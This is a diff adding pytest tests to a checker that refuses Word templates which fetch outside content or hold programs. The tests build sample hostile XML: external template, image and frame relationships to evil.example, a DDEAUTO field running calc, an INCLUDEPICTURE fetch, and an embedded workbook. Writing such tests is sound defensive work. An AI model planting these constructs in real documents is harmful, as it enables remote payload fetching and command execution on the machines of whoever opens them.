@@ -44,6 +44,49 @@ def test_what_is_no_template_is_refused_in_one_sentence(data: bytes, why: str) -
         checked_template("house.docx", data)
 
 
+RELATED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def related(kind: str) -> bytes:
+    """Relationships of a part, one of them to the outside."""
+    return (
+        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
+        + f'Type="{RELATED}/{kind}" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'.encode()
+    )
+
+
+def field(code: str) -> bytes:
+    words = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+    return f'<w:hdr xmlns:w="{words}"><w:p><w:r><w:instrText>{code}</w:instrText></w:r></w:p></w:hdr>'.encode()
+
+
+@pytest.mark.parametrize(
+    ("content", "is_refused"),
+    [
+        (related("attachedTemplate"), True),
+        (related("image"), True),
+        (related("frame"), True),
+        (related("hyperlink"), False),
+        (field('DDEAUTO c:\\\\x "calc"'), True),
+        (field('INCLUDEPICTURE "https://evil.example/a.png"'), True),
+        (field("PAGE"), False),
+    ],
+)
+def test_a_template_that_fetches_something_is_refused_and_a_link_is_not(content: bytes, is_refused: bool) -> None:
+    name = "word___rels__extra_dot_xml_dot_rels" if content.startswith(b"<Rel") else "word__header9_dot_xml"
+    data = word(**{name: content})
+    if not is_refused:
+        assert checked_template("house.docx", data) == data
+        return
+    with pytest.raises(RuleBroken, match="fetches something from outside"):
+        checked_template("house.docx", data)
+
+
+def test_an_embedded_object_is_refused() -> None:
+    with pytest.raises(RuleBroken, match="holds a program"):
+        checked_template("house.docx", word(word__embeddings__book_dot_xlsx=b"PK"))
+
+
 def test_a_spreadsheet_is_no_template() -> None:
     out = io.BytesIO()
     with zipfile.ZipFile(out, "w") as package:
